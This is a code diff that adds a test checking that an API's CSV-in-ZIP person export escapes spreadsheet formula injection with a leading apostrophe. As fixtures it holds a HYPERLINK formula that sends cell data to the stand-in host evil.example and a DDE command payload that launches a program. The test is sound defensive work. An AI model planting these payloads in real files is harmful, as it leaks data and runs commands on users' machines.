@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import importlib
 import io
 import sys
@@ -200,3 +201,40 @@ async def test_the_export_documents_both_formats(client):
     ok = schema["paths"]["/api/orgs/{org_id}/people/{person_id}/export"]["get"]["responses"]["200"]
     assert set(ok["content"]) == {"application/json", "application/zip"}
     assert ok["content"]["application/zip"]["schema"] == {"type": "string", "format": "binary"}
+
+
+async def test_the_export_zip_keeps_formulas_from_running(client, factory):
+    """Text that a spreadsheet program would run (``=``, ``+``, ``-``, ``@``, tab, CR first)
+    is written with a leading apostrophe in every CSV of the ZIP, like the shipping list."""
+    root = await factory.org("Bund", kind="federal")
+    admin = await factory.user("admin", root["id"])
+    hostile = {
+        "first_name": '=HYPERLINK("https://evil.example/?"&B2,"Klick")',
+        "last_name": "+491701234567",
+        "street": "-2+3",
+        "city": "@SUM(A1:A9)",
+        "postal_code": "\t=1",
+        "country": "\r=",
+    }
+    person = await factory.person(root["id"], **hostile)
+    await db.execute(
+        "INSERT INTO consent_event (person_id, channel, purpose, status, source, wording, at) "
+        "VALUES ({}, 'email', 'general', 'granted', 'test', '=cmd|'' /C calc''!A0', {})",
+        person["id"],
+        person["created_at"],
+    )
+    url = f"/api/orgs/{root['id']}/people/{person['id']}/export"
+    archive = await client.get(url, params={"format": "zip"}, headers=admin.headers)
+    assert archive.status_code == 200
+    files = zipfile.ZipFile(io.BytesIO(archive.content))
+    cells = {
+        name: [c for row in csv.reader(io.StringIO(files.read(name).decode())) for c in row]
+        for name in files.namelist()
+    }
+    assert all(
+        not c.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values() for c in v
+    )
+    for value in hostile.values():
+        assert "'" + value in cells["person.csv"]
+    assert "'=cmd|' /C calc'!A0" in cells["consent_history.csv"]
+    assert str(person["id"]) in cells["person.csv"]  # numbers stay numbers
